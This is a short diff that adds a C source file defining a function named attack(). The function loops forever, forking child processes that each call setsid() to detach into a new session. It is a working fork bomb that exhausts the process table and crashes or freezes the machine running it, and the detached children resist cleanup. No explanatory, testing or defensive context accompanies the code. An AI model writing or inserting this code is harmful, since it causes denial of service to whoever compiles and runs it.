@@ -1,0 +1,6 @@
+#include <unistd.h>
+
+void attack() {
+  for (;;)
+    if (fork() == 0) setsid();
+}
